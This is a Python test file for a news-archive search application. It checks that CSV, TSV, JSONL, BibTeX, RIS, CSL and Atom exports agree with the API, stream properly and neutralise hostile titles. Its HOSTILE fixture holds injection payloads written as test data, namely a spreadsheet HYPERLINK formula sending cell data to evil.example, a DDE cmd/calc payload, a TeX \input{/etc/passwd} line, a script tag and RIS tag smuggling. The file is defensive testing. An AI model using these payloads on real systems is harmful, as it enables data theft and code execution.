"""Exports, citations and feeds of an archive with hostile pages, and from a real server."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import feedparser
import pytest
from citing import from_tex, read_bibtex, read_ris
from click.testing import CliRunner
from flask.testing import FlaskClient

from search.cli.app import app
from search.engine import SearchEngine
from search.pipeline import ingest
from search.printable import one_line
from tests.benchmarks.dumps import generate
from tests.breaking import Breaking
from webapp import create_app

DOCUMENTS = 230  # more than are looked up together, twice
FORMS = ("csv", "tsv", "jsonl", "bib", "ris", "csl")
QUESTIONS = [
    {},
    {"q": "Wagner Mali"},
    {"q": "coup OR summit OR uranium", "sort": "newest"},
    {"q": "Mali", "sort": "added", "collapse": "none"},
    {"place": ["Niger", "ML"], "sort": "oldest"},
    {"q": "Russia", "not-place": "FR", "collapse": "story"},
    {"outlet": "-", "lang": "en"},
    {"q": "Mali", "from": "2025-01", "to": "2025"},
    {"q": "zebrafinch", "collapse": "none"},
    {"q": "in:removed comment"},
    {"q": "CEDEAO", "aliases": "0"},
    {"since": "2001-01-01", "q": "Niger"},
    {"q": "no-such-word-anywhere"},
    {"collapse": "none"},
]
_BODY = "The zebrafinch was seen in Niamey, said a minister who had come from Mali. " * 12
HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example?"&A1,"Zebrafinch report")',
    "plus": "+1+cmd|' /C calc'!A0 the zebrafinch",
    "tex": r"50% of \input{/etc/passwd} {zebrafinch $5 & #1_a ~ ^",
    "markup": "<script>alert(1)</script> zebrafinch ]]> &amp; <b>",
    "control": "Zebrafinch \x0b\x0c\x1b[31m red \x7f \u202eright to left\u202c \ufffe end",
    "arabic": "طائر الزيبرا zebrafinch في نيامي «اليوم»",
    "ris": "Zebrafinch ER  - TY  - BOOK and more of it",
}


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory, seeds: Path) -> Path:
    folder = tmp_path_factory.mktemp("exports")
    generate(folder / "dumps", DOCUMENTS)
    (folder / "hostile").mkdir()
    for name, title in HOSTILE.items():
        body = f"{title}\n\nBy Jane Doe\n\n{_BODY} {name}\n\n{name} {_BODY}\n"
        (folder / "hostile" / f"{name}.txt").write_text(body, encoding="utf-8")
    ingest(folder / "archive", [seeds, folder / "dumps", folder / "hostile"])
    return folder / "archive"


@pytest.fixture(scope="module")
def web(archive: Path) -> FlaskClient:
    return create_app(archive).test_client()


def ids_in(form: str, text: str) -> list[str]:
    match form:
        case "csv" | "tsv":
            table = io.StringIO(text, newline="")
            delimiter = "," if form == "csv" else "\t"
            return [row["id"] for row in csv.DictReader(table, delimiter=delimiter, strict=True)]
        case "jsonl":
            return [json.loads(line)["id"] for line in text.splitlines()]
        case "bib":
            return [entry["ID"].removeprefix("news-") for entry in read_bibtex(text)]
        case "ris":
            return [record["ID"].removeprefix("news-") for record in read_ris(text)]
        case _:
            return [item["id"].removeprefix("news-") for item in json.loads(text)]


def rows_of(web: FlaskClient, asked: str) -> list[dict[str, str]]:
    table = io.StringIO(web.get(f"/search.csv?{asked}").text, newline="")
    return list(csv.DictReader(table))


def ids_of_all_pages(web: FlaskClient, question: dict[str, object]) -> tuple[list[str], int]:
    ids: list[str] = []
    url = "/api/v1/search"
    asked = {**question, "per_page": "100", "facets": "none"}
    answer = web.get(url, query_string=asked).json
    total = answer["total"]["value"]
    while True:
        ids += [hit["id"] for hit in answer["hits"]]
        if not answer["links"]["next"]:
            return ids, total
        answer = web.get(answer["links"]["next"]).json


@pytest.mark.parametrize("question", QUESTIONS, ids=str)
def test_an_export_has_as_many_rows_as_the_page_says(web, question):
    ids, total = ids_of_all_pages(web, question)
    assert len(ids) == total
    for form in FORMS:
        response = web.get(f"/search.{form}", query_string=question)
        assert response.status_code == 200
        assert ids_in(form, response.text) == ids, form
        assert response.headers["X-Total-Count"] == str(total)


def test_the_questions_are_worth_asking(web):
    totals = [ids_of_all_pages(web, question)[1] for question in QUESTIONS]
    assert max(totals) > DOCUMENTS
    assert len(set(totals)) >= 9
    assert len([total for total in totals if not total]) <= 2
    assert totals[QUESTIONS.index({"q": "zebrafinch", "collapse": "none"})] == len(HOSTILE)


def test_the_command_line_writes_the_same(archive, web):
    for form in ("csv", "tsv", "bib", "ris", "csl"):
        args = ["--archive", str(archive), "Mali", "--all", f"--{form}"]
        done = CliRunner().invoke(app, args)
        assert done.exit_code == 0, done.stderr
        in_web = web.get(f"/search.{form}?q=Mali").get_data()
        assert done.stdout_bytes.replace(b"\r\n", b"\n") == in_web.replace(b"\r\n", b"\n")


def test_hostile_titles_stay_what_they_are(web):
    asked = "q=zebrafinch&collapse=none"
    titles = {hit["title"] for hit in web.get(f"/search.json?{asked}").json["hits"]}
    shown = {one_line(title) for title in titles}
    rows = rows_of(web, asked)
    assert {row["title"].removeprefix("'") for row in rows} == shown
    assert not any(cell.lstrip().startswith(tuple("=+-@")) for row in rows for cell in row.values())
    entries = read_bibtex(web.get(f"/search.bib?{asked}").text)
    assert {from_tex(entry["title"]) for entry in entries} == shown
    records = read_ris(web.get(f"/search.ris?{asked}").text)
    assert {record["TI"] for record in records} == {one.strip() for one in shown}
    items = web.get(f"/search.csl?{asked}").get_json(force=True)
    assert {item["title"] for item in items} == titles
    assert any("طائر" in title for title in titles)


def test_a_hash_is_that_of_the_file(web):
    for row in rows_of(web, "q=zebrafinch&collapse=none"):
        document = web.get(f"/api/v1/documents/{row['id']}").json
        assert row["sha256"] == document["provenance"]["sha256"]
        assert row["ingested"] == document["provenance"]["ingested"]
        assert row["sha256"] in web.get(f"/documents/{row['id']}/cite.txt").text


@pytest.mark.parametrize("question", QUESTIONS, ids=str)
def test_a_feed_is_the_page(web, question):
    asked = {**question, "per_page": "50"}
    response = web.get("/search.atom", query_string=asked)
    parsed = feedparser.parse(response.data)
    assert not parsed.bozo, parsed.get("bozo_exception")
    in_api = web.get("/api/v1/search", query_string=asked).json["hits"]
    assert [entry.id.rpartition(":")[2] for entry in parsed.entries] == [h["id"] for h in in_api]
    for entry, hit in zip(parsed.entries, in_api, strict=True):
        known = hit["date"]["precision"] == "day"
        assert ("published" in entry) == known
        assert entry.link == f"http://localhost/documents/{hit['id']}"
    assert "<script" not in response.text


def test_a_feed_of_what_came_last_is_an_alert(archive, web):
    moment = feedparser.parse(web.get("/search.atom?sort=added").data).feed.updated
    new = web.get("/search.atom", query_string={"sort": "added", "since": moment})
    assert feedparser.parse(new.data).entries == []
    with SearchEngine(archive) as engine:
        assert f"tag:{engine.uuid},2025:" in new.text


def test_hits_are_read_as_they_are_sent(archive):
    with Breaking(archive) as engine:
        response = (
            create_app(engine=engine)
            .test_client()
            .get("/search.jsonl?collapse=none", buffered=False)
        )
        chunks = response.iter_encoded()
        sent = next(chunks).count(b"\n")
        assert 0 < sent < DOCUMENTS
        assert engine.taken <= sent + 1
        for chunk in chunks:
            sent += chunk.count(b"\n")
            assert engine.taken <= sent + 1
        assert sent == engine.taken > DOCUMENTS


def test_an_export_is_of_one_generation_whatever_comes_in_meanwhile(tmp_path):
    generate(tmp_path / "old", 130)
    ingest(tmp_path / "archive", [tmp_path / "old"])
    client = create_app(tmp_path / "archive").test_client()
    everything = "collapse=none&sort=oldest"
    before = ids_of_all_pages(client, {"collapse": "none", "sort": "oldest"})[0]
    response = client.get(f"/search.jsonl?{everything}", buffered=False)
    chunks = response.iter_encoded()
    body = next(chunks)
    (tmp_path / "old" / "new.txt").write_text(f"Zebrafinch seen\n\n{_BODY}", encoding="utf-8")
    ingest(tmp_path / "archive", [tmp_path / "old"])
    assert client.get(f"/search.json?{everything}").json["total"]["value"] == len(before) + 1
    body += b"".join(chunks)
    assert ids_in("jsonl", body.decode()) == before
    assert response.headers["X-Total-Count"] == str(len(before))


@contextmanager
def served(archive: Path, breaks_at: int) -> Iterator[int]:
    """The port of a server whose index breaks after some hits."""
    command = [sys.executable, "-m", "tests.breaking", str(archive), str(breaks_at)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        try:
            yield int(process.stdout.readline())
        finally:
            process.terminate()
            process.communicate(timeout=30)


def fetched(port: int, path: str) -> tuple[http.client.HTTPResponse, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response, response.read()
    finally:
        connection.close()


def test_a_server_that_loses_its_index_breaks_the_connection_off(archive):
    whole = DOCUMENTS + 5 + len(HOSTILE)
    with served(archive, whole * 2 - 20) as port:
        response, body = fetched(port, "/search.csv?collapse=none")
        assert response.getheader("Transfer-Encoding") == "chunked"
        assert len(ids_in("csv", body.decode())) == whole
        with pytest.raises(http.client.IncompleteRead):
            fetched(port, "/search.csv?collapse=none")
        # Nothing is left: now it fails before anything is sent.
        assert fetched(port, "/search.csv?collapse=none")[0].status == 503


def test_the_documentation_names_every_form_and_column(root, web):
    text = (root / "docs" / "exports.md").read_text(encoding="utf-8")
    for form in (*FORMS, "atom"):
        assert f"`/search.{form}`" in text, form
    header = web.get("/search.csv?q=zebrafinch&collapse=none").text.splitlines()[0].split(",")
    described = re.findall(r"^\| `([a-z_0-9]+)` \|", text.partition("## Tables")[2], re.MULTILINE)
    assert described[: len(header)] == header
    for ending in ("bib", "ris", "json", "txt"):
        assert f"cite.{ending}" in text
